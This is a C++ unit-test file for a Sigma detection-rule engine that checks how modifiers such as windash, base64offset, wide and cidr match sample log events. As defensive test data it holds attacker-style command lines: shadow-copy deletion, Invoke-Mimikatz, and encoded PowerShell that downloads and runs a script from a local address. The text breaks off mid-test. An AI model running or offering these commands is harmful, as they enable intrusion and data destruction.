// Every modifier of the Sigma specification (v2.1, appendix "Modifiers"), one assertion per
// case. Expected behaviour follows the specification, and pySigma (the reference
// implementation, sigma/modifiers.py and tests/test_modifiers.py) where the specification
// leaves a detail open. Plain values (no modifier) are in values_test.cpp.
#include <gtest/gtest.h>

#include "core/time.hpp"
#include "match_helpers.hpp"
#include "sigma/sigma_string.hpp"

using testing::IsSubstring;
using vigie::core::Value;
using vigie::test::matches;
using vigie::test::rejection;

namespace {

std::string utf16le(std::string_view ascii) {
    std::string out;
    for (const char c : ascii) {
        out.push_back(c);
        out.push_back('\0');
    }
    return out;
}

// The three base64offset encodings of `value`, joined with '|' (or the error).
std::string base64_offsets(std::string_view value) {
    auto v = vigie::sigma::encode_base64_offsets(vigie::sigma::SigmaString::parse(value));
    if (!v) return "error: " + v.error().message;
    std::string out;
    for (const auto& s : *v) {
        if (!out.empty()) out += '|';
        out += s.plain_text();
    }
    return out;
}

// How many values windash makes of `value` (0 on error).
std::size_t windash_count(std::string_view value) {
    auto v = vigie::sigma::expand_windash(vigie::sigma::SigmaString::parse(value));
    return v ? v->size() : 0;
}

// A FILETIME value for an ISO 8601 UTC time.
Value filetime(const char* iso) {
    return Value::filetime(vigie::core::parse_iso8601(iso).value_or(0));
}

}  // namespace

// ---- contains, startswith, endswith ----------------------------------------------------------

TEST(Modifiers, Contains) {
    EXPECT_TRUE(matches("sel: {CommandLine|contains: 'delete shadows'}\ncondition: sel",
                        {{"CommandLine", "vssadmin Delete Shadows /all"}}));
}
TEST(Modifiers, ContainsMisses) {
    EXPECT_FALSE(matches("sel: {CommandLine|contains: 'delete shadows'}\ncondition: sel",
                         {{"CommandLine", "vssadmin list shadows"}}));
}
TEST(Modifiers, ContainsKeepsInnerWildcards) {
    EXPECT_TRUE(matches("sel: {CommandLine|contains: 'delete*/all'}\ncondition: sel",
                        {{"CommandLine", "vssadmin delete shadows /all /quiet"}}));
}
TEST(Modifiers, ContainsListIsOr) {
    EXPECT_TRUE(matches("sel: {CommandLine|contains: [' -enc ', ' -e ']}\ncondition: sel",
                        {{"CommandLine", "powershell -e AAA"}}));
}
TEST(Modifiers, ContainsNonAscii) {
    EXPECT_TRUE(matches("sel: {Path|contains: 'ДОКУМЕНТЫ'}\ncondition: sel",
                        {{"Path", "C:\\Users\\ivan\\Документы\\x.doc"}}));
}
TEST(Modifiers, StartsWith) {
    EXPECT_TRUE(matches("sel: {Image|startswith: 'C:\\Users\\'}\ncondition: sel",
                        {{"Image", "C:\\Users\\Public\\x.exe"}}));
}
TEST(Modifiers, StartsWithIsAnchored) {
    EXPECT_FALSE(matches("sel: {Image|startswith: 'Users'}\ncondition: sel",
                         {{"Image", "C:\\Users\\x.exe"}}));
}
TEST(Modifiers, EndsWith) {
    EXPECT_TRUE(matches("sel: {Image|endswith: '\\AdFind.exe'}\ncondition: sel",
                        {{"Image", "C:\\Temp\\adfind.EXE"}}));
}
TEST(Modifiers, EndsWithIsAnchored) {
    EXPECT_FALSE(matches("sel: {Image|endswith: '\\AdFind.exe'}\ncondition: sel",
                         {{"Image", "C:\\Temp\\adfind.exe.txt"}}));
}

// ---- all -------------------------------------------------------------------------------------

TEST(Modifiers, AllNeedsEveryValue) {
    EXPECT_FALSE(matches("sel: {CommandLine|contains|all: [' group', '/domain']}\ncondition: sel",
                         {{"CommandLine", "net group admins"}}));
}
TEST(Modifiers, AllMatchesInAnyOrder) {
    EXPECT_TRUE(matches("sel: {CommandLine|contains|all: [' group', '/domain']}\ncondition: sel",
                        {{"CommandLine", "net /domain group"}}));
}
TEST(Modifiers, AllWithoutContainsIsEqualityToEach) {
    EXPECT_FALSE(
        matches("sel: {User|all: [bob, eve]}\ncondition: sel", {{"User", "bob"}, {"User", "x"}}));
}
TEST(Modifiers, AllOverRepeatedField) {
    EXPECT_TRUE(
        matches("sel: {Data|all: [bob, eve]}\ncondition: sel", {{"Data", "eve"}, {"Data", "bob"}}));
}

// ---- cased -----------------------------------------------------------------------------------

TEST(Modifiers, Cased) {
    EXPECT_FALSE(matches("sel: {Image|cased: 'CMD.exe'}\ncondition: sel", {{"Image", "cmd.exe"}}));
}
TEST(Modifiers, CasedExact) {
    EXPECT_TRUE(matches("sel: {Image|cased: 'CMD.exe'}\ncondition: sel", {{"Image", "CMD.exe"}}));
}
TEST(Modifiers, CasedContains) {
    EXPECT_TRUE(matches("sel: {CommandLine|contains|cased: 'IEX'}\ncondition: sel",
                        {{"CommandLine", "powershell IEX(x)"}}));
}
TEST(Modifiers, CasedContainsOtherCase) {
    EXPECT_FALSE(matches("sel: {CommandLine|contains|cased: 'IEX'}\ncondition: sel",
                         {{"CommandLine", "powershell iex(x)"}}));
}
TEST(Modifiers, CasedNonAscii) {
    EXPECT_FALSE(matches("sel: {User|cased: 'Élodie'}\ncondition: sel", {{"User", "élodie"}}));
}

// ---- neq ---------------------------------------------------------------------------------------

TEST(Modifiers, NeqSingle) {
    EXPECT_TRUE(matches("sel: {User|neq: admin}\ncondition: sel", {{"User", "bob"}}));
}
TEST(Modifiers, NeqSingleEqual) {
    EXPECT_FALSE(matches("sel: {User|neq: admin}\ncondition: sel", {{"User", "ADMIN"}}));
}
TEST(Modifiers, NeqListIsNoneOf) {
    EXPECT_FALSE(matches("sel: {User|neq: [admin, root]}\ncondition: sel", {{"User", "root"}}));
}
TEST(Modifiers, NeqListOther) {
    EXPECT_TRUE(matches("sel: {User|neq: [admin, root]}\ncondition: sel", {{"User", "bob"}}));
}
TEST(Modifiers, NeqNumber) {
    EXPECT_TRUE(
        matches("sel: {LogonType|neq: 3}\ncondition: sel", {{"LogonType", Value::uint64(10)}}));
}
TEST(Modifiers, NeqWithContains) {
    EXPECT_FALSE(matches("sel: {CommandLine|contains|neq: '/quiet'}\ncondition: sel",
                         {{"CommandLine", "msiexec /i x.msi /QUIET"}}));
}
// pySigma turns `neq` into NOT around the item: an event without the field is "not equal".
TEST(Modifiers, NeqOnAbsentField) {
    EXPECT_TRUE(matches("sel: {EventID: 1, User|neq: admin}\ncondition: sel", {{"EventID", "1"}}));
}

// ---- exists ------------------------------------------------------------------------------------

TEST(Modifiers, ExistsTrue) {
    EXPECT_TRUE(
        matches("sel: {PasswordLastSet|exists: true}\ncondition: sel", {{"PasswordLastSet", ""}}));
}
TEST(Modifiers, ExistsTrueAbsent) {
    EXPECT_FALSE(matches("sel: {EventID: 1, PasswordLastSet|exists: true}\ncondition: sel",
                         {{"EventID", "1"}}));
}
// The specification: "only verifies the presence of a field, not its value, be it empty or null".
TEST(Modifiers, ExistsTrueNullValued) {
    EXPECT_TRUE(matches("sel: {PasswordLastSet|exists: true}\ncondition: sel",
                        {{"PasswordLastSet", Value::null()}}));
}
TEST(Modifiers, ExistsFalse) {
    EXPECT_TRUE(matches("sel: {EventID: 1, PasswordLastSet|exists: false}\ncondition: sel",
                        {{"EventID", "1"}}));
}
TEST(Modifiers, ExistsFalsePresent) {
    EXPECT_FALSE(matches("sel: {EventID: 1, PasswordLastSet|exists: false}\ncondition: sel",
                         {{"EventID", "1"}, {"PasswordLastSet", "x"}}));
}
TEST(Modifiers, ExistsNeedsABoolean) {
    EXPECT_PRED_FORMAT2(IsSubstring, "true or false",
                        rejection("sel: {A|exists: yes please}\ncondition: sel"));
}
TEST(Modifiers, ExistsNeedsAField) {
    EXPECT_PRED_FORMAT2(IsSubstring, "exists",
                        rejection("keywords:\n  '|exists': true\ncondition: keywords"));
}
TEST(Modifiers, ExistsTakesAnUnmodifiedValue) {
    EXPECT_PRED_FORMAT2(IsSubstring, "exists",
                        rejection("sel: {A|contains|exists: true}\ncondition: sel"));
}

// ---- windash -----------------------------------------------------------------------------------

TEST(Windash, DashItself) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains: ' -enc '}\ncondition: sel",
                        {{"CommandLine", "powershell -enc AAA"}}));
}
TEST(Windash, SlashForDash) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains: ' -enc '}\ncondition: sel",
                        {{"CommandLine", "powershell /enc AAA"}}));
}
TEST(Windash, EnDash) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains: ' -enc '}\ncondition: sel",
                        {{"CommandLine", "powershell \u2013enc AAA"}}));
}
TEST(Windash, EmDash) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains: ' -enc '}\ncondition: sel",
                        {{"CommandLine", "powershell \u2014enc AAA"}}));
}
TEST(Windash, HorizontalBar) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains: ' -enc '}\ncondition: sel",
                        {{"CommandLine", "powershell \u2015enc AAA"}}));
}
TEST(Windash, DashForSlash) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains: ' /c '}\ncondition: sel",
                        {{"CommandLine", "cmd.exe -c whoami"}}));
}
TEST(Windash, OtherCharacterIsNotADash) {
    EXPECT_FALSE(matches("sel: {CommandLine|windash|contains: ' -enc '}\ncondition: sel",
                         {{"CommandLine", "powershell +enc AAA"}}));
}
TEST(Windash, AtTheStartOfTheValue) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|startswith: '-nop'}\ncondition: sel",
                        {{"CommandLine", "/nop -w hidden"}}));
}
TEST(Windash, AfterAWildcard) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash: '*-nop*'}\ncondition: sel",
                        {{"CommandLine", "x /nop y"}}));
}
// pySigma: `\B[-/]\b`, a dash with no word character before it and one after.
TEST(Windash, OnlyOptionStartsExpand) {
    EXPECT_FALSE(matches("sel: {CommandLine|windash|contains: 'a-b'}\ncondition: sel",
                         {{"CommandLine", "a/b"}}));
}
TEST(Windash, DashBeforeNoWordIsKept) {
    EXPECT_FALSE(matches("sel: {CommandLine|windash|contains: ' - '}\ncondition: sel",
                         {{"CommandLine", "a / b"}}));
}
// Python's \w knows Unicode: a no-break space is no word character, so the dash after it starts
// an option.
TEST(Windash, DashAfterANonWordNonAsciiCharacter) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains: '\u00a0-enc'}\ncondition: sel",
                        {{"CommandLine", "powershell\u00a0/enc AAA"}}));
}
TEST(Windash, DashAfterANonAsciiLetterIsKept) {
    EXPECT_FALSE(matches("sel: {CommandLine|windash|contains: 'é-x'}\ncondition: sel",
                         {{"CommandLine", "é/x"}}));
}
TEST(Windash, EveryCombinationOfTwoPositions) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains: ' -a -b'}\ncondition: sel",
                        {{"CommandLine", "x /a \u2013b"}}));
}
TEST(Windash, ExpandsToFiveTimesFiveValues) {
    EXPECT_EQ(windash_count(" -a -b"), 25u);
}
// pySigma's test: in "-param-1 -param2" the inner dash of "param-1" stays as written.
TEST(Windash, PySigmaExampleHasTwentyFiveValues) {
    EXPECT_EQ(windash_count("-param-1 -param2"), 25u);
}
TEST(Windash, PySigmaExampleInnerDashStays) {
    EXPECT_FALSE(matches("sel: {CommandLine|windash: '-param-1 -param2'}\ncondition: sel",
                         {{"CommandLine", "/param/1 /param2"}}));
}
TEST(Windash, PySigmaExampleBothOptions) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash: '-param-1 -param2'}\ncondition: sel",
                        {{"CommandLine", "\u2014param-1 /param2"}}));
}
TEST(Windash, WithAllEachValueExpandsAlone) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains|all: [' -a', ' -b']}\ncondition: sel",
                        {{"CommandLine", "x /a -b"}}));
}
TEST(Windash, WithAllEveryValueStillNeeded) {
    EXPECT_FALSE(matches("sel: {CommandLine|windash|contains|all: [' -a', ' -b']}\ncondition: sel",
                         {{"CommandLine", "x /a /c"}}));
}
TEST(Windash, ContainsFirstAsInSigmaHq) {
    EXPECT_TRUE(matches("sel: {CommandLine|contains|windash: ' -s '}\ncondition: sel",
                        {{"CommandLine", "psexec.exe \\\\host /s cmd"}}));
}

// ---- base64, base64offset --------------------------------------------------------------------

TEST(Base64, PySigmaExample) {
    auto v = vigie::sigma::encode_base64(vigie::sigma::SigmaString::parse("foobar"));
    EXPECT_EQ(v ? v->plain_text() : "error", "Zm9vYmFy");
}
TEST(Base64, EncodesTheValue) {
    EXPECT_TRUE(matches("sel: {Payload|base64: 'cmd'}\ncondition: sel", {{"Payload", "Y21k"}}));
}
TEST(Base64, IsWholeValueWithoutContains) {
    EXPECT_FALSE(matches("sel: {Payload|base64: 'cmd'}\ncondition: sel", {{"Payload", "xY21k"}}));
}
TEST(Base64, WithContains) {
    EXPECT_TRUE(matches("sel: {Payload|base64|contains: 'cmd'}\ncondition: sel",
                        {{"Payload", "xxY21kyy"}}));
}
TEST(Base64, EncodesUtf8Bytes) {
    EXPECT_TRUE(
        matches("sel: {Payload|base64: 'café'}\ncondition: sel", {{"Payload", "Y2Fmw6k="}}));
}
TEST(Base64, RefusesWildcards) {
    EXPECT_PRED_FORMAT2(IsSubstring, "wildcards",
                        rejection("sel: {Payload|base64: 'cm*'}\ncondition: sel"));
}
// pySigma: b64encode(i * b" " + value)[start[i] : end[(len + i) % 3]], start (0, 2, 3),
// end (None, -3, -2). Expected strings computed with that formula in Python.
TEST(Base64Offset, PySigmaExample) {
    EXPECT_EQ(base64_offsets("foobar"), "Zm9vYmFy|Zvb2Jhc|mb29iYX");
}
TEST(Base64Offset, LengthOneModThree) {
    EXPECT_EQ(base64_offsets("/bin/sh"), "L2Jpbi9za|9iaW4vc2|vYmluL3No");
}
TEST(Base64Offset, LengthZeroModThreeLonger) {
    EXPECT_EQ(base64_offsets("Invoke-Mimikatz"),
              "SW52b2tlLU1pbWlrYXR6|ludm9rZS1NaW1pa2F0e|JbnZva2UtTWltaWthdH");
}
TEST(Base64Offset, LengthTwoModThree) {
    EXPECT_EQ(base64_offsets("ab"), "YW|Fi|hY");
}
TEST(Base64Offset, Wide) {
    auto wide = vigie::sigma::encode_utf16(vigie::sigma::SigmaString::parse("DownloadString"),
                                           false, false);
    EXPECT_EQ(base64_offsets(wide ? wide->plain_text() : ""),
              "RABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnA|QAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZw|"
              "EAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcA");
}
TEST(Base64Offset, RefusesWildcards) {
    EXPECT_PRED_FORMAT2(IsSubstring, "wildcards", base64_offsets("foo*bar"));
}
TEST(Base64Offset, FindsTheValueAtEachAlignment) {
    const char* rule =
        "sel: {CommandLine|base64offset|contains: 'Invoke-Mimikatz'}\ncondition: sel";
    for (const char* prefix : {"", "x", "xy"}) {
        const std::string encoded =
            vigie::sigma::base64_encode(std::string(prefix) + "Invoke-Mimikatz -Dump");
        EXPECT_TRUE(matches(rule, {{"CommandLine", "powershell -e " + encoded}})) << prefix;
    }
}
// Real -EncodedCommand values (Base64 of the UTF-16LE script, encoded with Python), one for each
// alignment of "DownloadString" in the encoded bytes.
constexpr const char* kDownloadRule =
    "sel: {CommandLine|wide|base64offset|contains: 'DownloadString'}\ncondition: sel";
TEST(Base64Offset, PowerShellEncodedCommandAlignmentZero) {
    // IEX(New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')
    EXPECT_TRUE(matches(
        kDownloadRule,
        {{"CommandLine",
          "powershell.exe -NoP -EncodedCommand "
          "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcA"
          "bgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEAMAAuADAALgAwAC4ANQAvAGEALgBwAHMA"
          "MQAnACkA"}}));
}
TEST(Base64Offset, PowerShellEncodedCommandAlignmentOne) {
    // iex  (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')
    EXPECT_TRUE(matches(
        kDownloadRule,
        {{"CommandLine",
          "powershell.exe -NoP -EncodedCommand "
          "aQBlAHgAIAAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQA"
          "bwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAxADAALgAwAC4AMAAuADUALwBhAC4A"
          "cABzADEAJwApAA=="}}));
}
TEST(Base64Offset, PowerShellEncodedCommandAlignmentTwo) {
    // IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')
    EXPECT_TRUE(matches(
        kDownloadRule,
        {{"CommandLine",
          "powershell.exe -NoP -EncodedCommand "
          "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A"
          "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAA"
          "cwAxACcAKQA="}}));
}
TEST(Base64Offset, PowerShellEncodedCommandWithout) {
    // Get-Date; Write-Output 'DownloadStrin'
    EXPECT_FALSE(matches(kDownloadRule, {{"CommandLine",
                                          "powershell.exe -EncodedCommand "
                                          "RwBlAHQALQBEAGEAdABlADsAIABXAHIAaQB0AGUALQBPAHUAdABwAHUA"
                                          "dAAgACcARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgAnAA=="}}));
}
TEST(Base64Offset, WideForPowerShellEncodedCommand) {
    const std::string script = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
    const std::string encoded = vigie::sigma::base64_encode(utf16le(script));
    EXPECT_TRUE(
        matches("sel: {CommandLine|wide|base64offset|contains: 'Net.WebClient'}\ncondition: sel",
                {{"CommandLine", "powershell.exe -EncodedCommand " + encoded}}));
}

// ---- wide, utf16le, utf16be, utf16 -------------------------------------------------------------

TEST(Utf16, WideIsUtf16LittleEndian) {
    EXPECT_TRUE(matches("sel: {Data|wide: 'cmd'}\ncondition: sel",
                        {{"Data", std::string("c\0m\0d\0", 6)}}));
}
TEST(Utf16, WideIsNotTheAsciiText) {
    EXPECT_FALSE(matches("sel: {Data|wide: 'cmd'}\ncondition: sel", {{"Data", "cmd"}}));
}
TEST(Utf16, WideKeepsWildcards) {
    EXPECT_TRUE(matches("sel: {Data|wide: '*cmd*'}\ncondition: sel",
                        {{"Data", std::string("xx c\0m\0d\0 yy", 12)}}));
}
TEST(Utf16, Utf16leIsWide) {
    EXPECT_TRUE(matches("sel: {Data|utf16le: 'cmd'}\ncondition: sel",
                        {{"Data", std::string("c\0m\0d\0", 6)}}));
}
TEST(Utf16, Utf16be) {
    EXPECT_TRUE(matches("sel: {Data|utf16be: 'cmd'}\ncondition: sel",
                        {{"Data", std::string("\0c\0m\0d", 6)}}));
}
// The specification's bytes: `cmd` > FF FE 63 00 6d 00 64 00. (pySigma prepends the character
// U+FEFF, which its backends write as UTF-8 EF BB BF; the specification's bytes are the
// UTF-16LE byte-order mark, which is what a UTF-16 encoded field holds.)
TEST(Utf16, Utf16HasAByteOrderMark) {
    EXPECT_TRUE(
        matches("sel: {Data|utf16: 'cmd'}\ncondition: sel", {{"Data", std::string("\xFF\xFE"
                                                                                  "c\0m\0d\0",
                                                                                  8)}}));
}
TEST(Utf16, WideRefusesNonAscii) {
    EXPECT_PRED_FORMAT2(IsSubstring, "ASCII",
                        rejection("sel: {Data|wide: 'foobär'}\ncondition: sel"));
}
TEST(Utf16, Utf16beRefusesNonAscii) {
    EXPECT_PRED_FORMAT2(IsSubstring, "ASCII",
                        rejection("sel: {Data|utf16be: 'foobär'}\ncondition: sel"));
}

// ---- regular expressions -----------------------------------------------------------------------

TEST(Regex, SearchesAnywhere) {
    EXPECT_TRUE(matches("sel: {Image|re: 'cmd\\.exe$'}\ncondition: sel",
                        {{"Image", "C:\\Windows\\cmd.exe"}}));
}
TEST(Regex, CaseSensitiveByDefault) {
    EXPECT_FALSE(matches("sel: {Image|re: 'cmd\\.exe$'}\ncondition: sel",
                         {{"Image", "C:\\Windows\\CMD.EXE"}}));
}
TEST(Regex, IgnoreCaseFlag) {
    EXPECT_TRUE(matches("sel: {Image|re|i: 'cmd\\.exe$'}\ncondition: sel",
                        {{"Image", "C:\\Windows\\CMD.EXE"}}));
}
TEST(Regex, IgnoreCaseLongName) {
    EXPECT_TRUE(matches("sel: {Image|re|ignorecase: 'cmd\\.exe$'}\ncondition: sel",
                        {{"Image", "C:\\Windows\\CMD.EXE"}}));
}
TEST(Regex, IgnoreCaseNonAscii) {
    EXPECT_TRUE(matches("sel: {User|re|i: '^админ'}\ncondition: sel", {{"User", "АДМИН1"}}));
}
TEST(Regex, MultiLineFlag) {
    EXPECT_TRUE(
        matches("sel: {Script|re|m: '^second'}\ncondition: sel", {{"Script", "first\nsecond"}}));
}
TEST(Regex, WithoutMultiLineCaretIsTheStart) {
    EXPECT_FALSE(
        matches("sel: {Script|re: '^second'}\ncondition: sel", {{"Script", "first\nsecond"}}));
}
TEST(Regex, DotAllFlag) {
    EXPECT_TRUE(matches("sel: {Script|re|s: 'first.second'}\ncondition: sel",
                        {{"Script", "first\nsecond"}}));
}
TEST(Regex, DotDoesNotMatchNewlineByDefault) {
    EXPECT_FALSE(
        matches("sel: {Script|re: 'first.second'}\ncondition: sel", {{"Script", "first\nsecond"}}));
}
TEST(Regex, ValueIsNotASigmaWildcardString) {
    EXPECT_TRUE(matches("sel: {V|re: 'a*b'}\ncondition: sel", {{"V", "b"}}));
}
// Sigma's own escapes do not apply: the regex gets its backslashes as written.
TEST(Regex, BackslashesAreTheRegexOwn) {
    EXPECT_TRUE(matches("sel: {Image|re: '^C:\\\\Windows\\\\'}\ncondition: sel",
                        {{"Image", "C:\\Windows\\x.exe"}}));
}
TEST(Regex, AlternationAndClasses) {
    EXPECT_TRUE(matches("sel: {V|re: '(?:cmd|pwsh)[0-9]{2,3}\\.exe'}\ncondition: sel",
                        {{"V", "x\\pwsh123.exe"}}));
}
TEST(Regex, ListIsOr) {
    EXPECT_TRUE(matches("sel: {V|re: ['^a', '^b']}\ncondition: sel", {{"V", "bcd"}}));
}
TEST(Regex, BackreferencesAreRejectedWithTheReason) {
    EXPECT_PRED_FORMAT2(IsSubstring, "RE2", rejection("sel: {V|re: '(a)\\1'}\ncondition: sel"));
}
TEST(Regex, LookaheadIsRejectedWithTheReason) {
    EXPECT_PRED_FORMAT2(IsSubstring, "RE2", rejection("sel: {V|re: 'a(?=b)'}\ncondition: sel"));
}
TEST(Regex, InvalidIsRejected) {
    EXPECT_PRED_FORMAT2(IsSubstring, "missing )",
                        rejection("sel: {V|re: '(unclosed'}\ncondition: sel"));
}
TEST(Regex, FlagsNeedRe) {
    EXPECT_PRED_FORMAT2(IsSubstring, "need 're'", rejection("sel: {V|i: 'a'}\ncondition: sel"));
}
// pySigma: "Regular expression modifier only applicable to unmodified values".
TEST(Regex, AfterAnotherModifierIsRejected) {
    EXPECT_PRED_FORMAT2(IsSubstring, "unmodified",
                        rejection("sel: {V|base64|re: 'a'}\ncondition: sel"));
}
// pySigma: base64offset on a regular expression is a type error.
TEST(Regex, EncodingAfterReIsRejected) {
    EXPECT_PRED_FORMAT2(IsSubstring, "base64offset",
                        rejection("sel: {V|re|base64offset: 'a'}\ncondition: sel"));
}

// ---- lt, lte, gt, gte ------------------------------------------------------------------------

TEST(Compare, LessThan) {
    EXPECT_TRUE(matches("sel: {N|lt: 10}\ncondition: sel", {{"N", "9"}}));
}
TEST(Compare, LessThanEdge) {
    EXPECT_FALSE(matches("sel: {N|lt: 10}\ncondition: sel", {{"N", "10"}}));
}
TEST(Compare, LessOrEqualEdge) {
    EXPECT_TRUE(matches("sel: {N|lte: 10}\ncondition: sel", {{"N", "10"}}));
}
TEST(Compare, LessOrEqualAbove) {
    EXPECT_FALSE(matches("sel: {N|lte: 10}\ncondition: sel", {{"N", "11"}}));
}
TEST(Compare, GreaterThan) {
    EXPECT_TRUE(matches("sel: {N|gt: 10}\ncondition: sel", {{"N", "11"}}));
}
TEST(Compare, GreaterThanEdge) {
    EXPECT_FALSE(matches("sel: {N|gt: 10}\ncondition: sel", {{"N", "10"}}));
}
TEST(Compare, GreaterOrEqualEdge) {
    EXPECT_TRUE(matches("sel: {N|gte: 10}\ncondition: sel", {{"N", Value::uint64(10)}}));
}
TEST(Compare, GreaterOrEqualBelow) {
    EXPECT_FALSE(matches("sel: {N|gte: 10}\ncondition: sel", {{"N", Value::uint64(9)}}));
}
TEST(Compare, IsNumericNotTextual) {
    EXPECT_TRUE(matches("sel: {N|gt: 9}\ncondition: sel", {{"N", "10"}}));
}
TEST(Compare, NegativeNumbers) {
    EXPECT_TRUE(matches("sel: {N|lt: -1}\ncondition: sel", {{"N", Value::int64(-2)}}));
}
TEST(Compare, Fraction) {
    EXPECT_TRUE(matches("sel: {N|gt: 1.5}\ncondition: sel", {{"N", "1.75"}}));
}
TEST(Compare, HexadecimalField) {
    EXPECT_TRUE(matches("sel: {N|gt: 255}\ncondition: sel", {{"N", "0x100"}}));
}
TEST(Compare, NotANumber) {
    EXPECT_FALSE(matches("sel: {N|gt: 1}\ncondition: sel", {{"N", "many"}}));
}
TEST(Compare, AbsentField) {
    EXPECT_FALSE(matches("sel: {N|lt: 1}\ncondition: sel", {{"M", "0"}}));
}
TEST(Compare, NeedsANumber) {
    EXPECT_PRED_FORMAT2(IsSubstring, "number", rejection("sel: {N|gt: many}\ncondition: sel"));
}
// pySigma: a quoted value is a string, and comparisons take numbers only.
TEST(Compare, QuotedNumberIsAString) {
    EXPECT_PRED_FORMAT2(IsSubstring, "number", rejection("sel: {N|gt: '5'}\ncondition: sel"));
}
TEST(Compare, StringModifierIsRejected) {
    EXPECT_PRED_FORMAT2(IsSubstring, "contains",
                        rejection("sel: {N|contains|gt: 5}\ncondition: sel"));
}

// ---- cidr ------------------------------------------------------------------------------------

TEST(Cidr, Ipv4Inside) {
    EXPECT_TRUE(matches("sel: {DestinationIp|cidr: 10.0.0.0/8}\ncondition: sel",
                        {{"DestinationIp", "10.20.4.57"}}));
}
TEST(Cidr, Ipv4Outside) {
    EXPECT_FALSE(matches("sel: {DestinationIp|cidr: 10.0.0.0/8}\ncondition: sel",
                         {{"DestinationIp", "11.0.0.1"}}));
}
TEST(Cidr, Ipv4NarrowPrefixInside) {
    EXPECT_TRUE(matches("sel: {DestinationIp|cidr: 192.168.1.128/25}\ncondition: sel",
                        {{"DestinationIp", "192.168.1.200"}}));
}
TEST(Cidr, Ipv4NarrowPrefixOutside) {
    EXPECT_FALSE(matches("sel: {DestinationIp|cidr: 192.168.1.0/25}\ncondition: sel",
                         {{"DestinationIp", "192.168.1.200"}}));
}
TEST(Cidr, Ipv4LastAddress) {
    EXPECT_TRUE(matches("sel: {DestinationIp|cidr: 172.16.0.0/12}\ncondition: sel",
                        {{"DestinationIp", "172.31.255.255"}}));
}
TEST(Cidr, Ipv4JustPast) {
    EXPECT_FALSE(matches("sel: {DestinationIp|cidr: 172.16.0.0/12}\ncondition: sel",
                         {{"DestinationIp", "172.32.0.0"}}));
}
TEST(Cidr, BareAddressIsOneHost) {
    EXPECT_FALSE(matches("sel: {DestinationIp|cidr: 10.1.2.3}\ncondition: sel",
                         {{"DestinationIp", "10.1.2.4"}}));
}
TEST(Cidr, ListIsOr) {
    EXPECT_TRUE(matches("sel: {DestinationIp|cidr: [10.0.0.0/8, 192.168.0.0/16]}\ncondition: sel",
                        {{"DestinationIp", "192.168.4.4"}}));
}
TEST(Cidr, Ipv6Inside) {
    EXPECT_TRUE(matches("sel: {DestinationIp|cidr: 'fe80::/10'}\ncondition: sel",
                        {{"DestinationIp", "fe80::1c2a:3b4d"}}));
}
TEST(Cidr, Ipv6Outside) {
    EXPECT_FALSE(matches("sel: {DestinationIp|cidr: 'fe80::/10'}\ncondition: sel",
                         {{"DestinationIp", "2001:db8::1"}}));
}
TEST(Cidr, Ipv6Loopback) {
    EXPECT_TRUE(matches("sel: {DestinationIp|cidr: '::1/128'}\ncondition: sel",
                        {{"DestinationIp", "0:0:0:0:0:0:0:1"}}));
}
TEST(Cidr, Ipv4AddressAgainstIpv6Network) {
    EXPECT_FALSE(matches("sel: {DestinationIp|cidr: '::/0'}\ncondition: sel",
                         {{"DestinationIp", "10.0.0.1"}}));
}
// An IPv4 address written IPv4-mapped (as dual-stack sockets log it) is still that address.
TEST(Cidr, Ipv4MappedAddressInEvent) {
    EXPECT_TRUE(matches("sel: {SourceIp|cidr: 10.0.0.0/8}\ncondition: sel",
                        {{"SourceIp", "::ffff:10.1.2.3"}}));
}
TEST(Cidr, NotAnAddress) {
    EXPECT_FALSE(matches("sel: {DestinationIp|cidr: 10.0.0.0/8}\ncondition: sel",
                         {{"DestinationIp", "localhost"}}));
}
TEST(Cidr, InvalidIpv4InEvent) {
    EXPECT_FALSE(matches("sel: {DestinationIp|cidr: 10.0.0.0/8}\ncondition: sel",
                         {{"DestinationIp", "10.0.0.256"}}));
}
TEST(Cidr, InvalidIpv6InEvent) {
    EXPECT_FALSE(matches("sel: {DestinationIp|cidr: 'fe80::/10'}\ncondition: sel",
                         {{"DestinationIp", "fe80::1::2"}}));
}
TEST(Cidr, BadPrefixIsRejected) {
    EXPECT_PRED_FORMAT2(IsSubstring, "prefix",
                        rejection("sel: {DestinationIp|cidr: 10.0.0.0/33}\ncondition: sel"));
}
TEST(Cidr, BadNetworkIsRejected) {
    EXPECT_PRED_FORMAT2(IsSubstring, "not an IPv4 or IPv6 network",
                        rejection("sel: {DestinationIp|cidr: 10.0.0/8}\ncondition: sel"));
}
// pySigma (ip_network, strict): "192.168.1.1/24" has host bits set and is invalid.
TEST(Cidr, HostBitsSetIsRejected) {
    EXPECT_PRED_FORMAT2(IsSubstring, "host bits",
